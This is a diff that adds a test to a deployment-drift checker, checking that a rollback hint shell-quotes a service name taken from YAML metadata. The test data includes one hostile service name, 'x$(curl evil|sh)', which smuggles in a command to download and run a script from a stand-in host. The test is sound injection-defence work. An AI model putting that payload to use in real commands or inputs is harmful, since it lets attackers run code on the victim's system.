@@ -113,6 +113,14 @@ describe('deploymentDrift', () => {
     expect(findings.map((f) => [f.code, f.severity])).toEqual([['deployment.model', 'warning']]);
   });
 
+  it("quotes the service name in the rollback hint, as in the fix command (it comes from the YAML's metadata.name)", () => {
+    const hostile = { ...snapshot([serve(null, 100, { revision: 'old', unseen: true })]), service: 'x$(curl evil|sh)', project: 'p1' };
+    const [f] = deploymentDrift(parsed, hostile);
+    expect(f?.message).toContain(`--deployment 'run:projects/p1/locations/us-west2/services/x$(curl evil|sh)'`);
+    const clean = deploymentDrift(parsed, { ...hostile, service: 'prediction-worker' })[0]?.message;
+    expect(clean).toContain('--deployment run:projects/p1/locations/us-west2/services/prediction-worker');
+  });
+
   it('says in a notice when traffic could not be seen (a YAML with only the template)', () => {
     const findings = deploymentDrift(parsed, { ...snapshot([serve(GCS)]), trafficSeen: false });
     expect(findings.map((f) => [f.code, f.severity])).toEqual([['deployment.traffic-unknown', 'notice']]);
